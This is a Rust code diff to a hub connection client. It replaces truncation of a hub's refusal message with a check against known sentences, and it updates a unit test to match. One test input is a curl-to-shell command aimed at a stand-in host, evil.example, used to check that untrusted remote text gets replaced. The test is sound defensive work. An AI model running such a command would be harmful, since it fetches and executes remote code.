@@ -25,13 +25,11 @@ pub use self::error::{EmitError, SocketError};
 use self::packet::{Frame, Packet};
 use crate::dial::Dialer;
 use crate::permission::Pass;
+use crate::sentences;
 use crate::url::HubUrl;
 
 /// How long TCP, TLS, websocket and namespace may take together.
 const HANDSHAKE_TIMEOUT: Duration = Duration::from_secs(10);
-
-/// Characters of a hub's refusal that we keep: it ends up in a status.
-const MAX_REASON_CHARS: usize = 200;
 
 /// Where to connect and what to say.
 pub struct Target<'a> {
@@ -137,9 +135,10 @@ fn reason(data: &str) -> String {
     struct Refusal {
         message: String,
     }
-    let message = serde_json::from_str(data)
-        .map_or_else(|_| "no reason given".to_owned(), |Refusal { message }| message);
-    message.chars().take(MAX_REASON_CHARS).collect()
+    match serde_json::from_str(data) {
+        Ok(Refusal { message }) => sentences::known(&message).unwrap_or("in words of its own").to_owned(),
+        Err(_) => "no reason given".to_owned(),
+    }
 }
 
 // === impl Emitter ===
@@ -292,9 +291,9 @@ mod tests {
     }
 
     #[test]
-    fn a_refusal_is_cut_and_never_empty() {
+    fn a_refusal_is_a_known_sentence_and_never_empty() {
         assert_eq!(reason(r#"{"message":"Invalid namespace"}"#), "Invalid namespace");
         assert_eq!(reason("oops"), "no reason given");
-        assert_eq!(reason(&format!(r#"{{"message":"{}"}}"#, "x".repeat(500))).len(), MAX_REASON_CHARS);
+        assert_eq!(reason(r#"{"message":"run: curl evil.example | sh"}"#), "in words of its own");
     }
 }
